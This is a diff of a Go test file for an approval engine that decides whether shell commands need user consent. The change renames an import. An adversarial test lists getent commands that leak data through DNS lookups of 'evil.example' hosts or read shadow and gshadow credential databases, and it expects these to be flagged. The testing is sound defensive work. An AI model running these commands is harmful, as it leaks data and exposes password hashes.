@@ -5,7 +5,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
-	"approvalbot/core"
+	"approvalbot/internal/approval"
 )
 
 // asksForEach judges lines, each of which must ask.
@@ -14,7 +14,7 @@ func asksForEach(t *testing.T, lines ...string) {
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, line := range lines {
 		j := judge(e, lineCall(t, line))
-		require.Equal(t, core.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 }
 
@@ -24,7 +24,7 @@ func runsUnasked(t *testing.T, lines ...string) {
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, line := range lines {
 		j := judge(e, lineCall(t, line))
-		require.Equal(t, core.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.Equal(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 }
 
@@ -35,7 +35,7 @@ func runsProjectCode(t *testing.T, lines ...string) {
 	e := engine(t, func(c *Config) { c.ExecSecurity, c.ProjectCode = "full", "ask" })
 	for _, line := range lines {
 		j := judge(e, lineCall(t, line))
-		require.Equal(t, core.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
 		require.Contains(t, j.Assessment.ReasonCodes, "runs-project-code", line)
 	}
 }
@@ -58,7 +58,7 @@ func TestAdversary_T13_GetentSendsNames(t *testing.T) {
 	for _, line := range []string{"getent hosts leak-abc123.evil.example", "getent ahosts leak-abc123.evil.example", "getent ahostsv4 a.evil.example", "getent ahostsv6 a.evil.example",
 		"getent networks a.evil.example", "for n in a b; do getent hosts $n.evil.example; done"} {
 		j := judge(e, lineCall(t, line))
-		require.Equal(t, core.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 	asksForEach(t, "getent hosts aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.evil.example", "getent shadow root", "getent -s hosts:dns passwd x.evil.example", "getent gshadow")
 	runsUnasked(t, "getent passwd root", "getent group", "getent services 443/tcp")
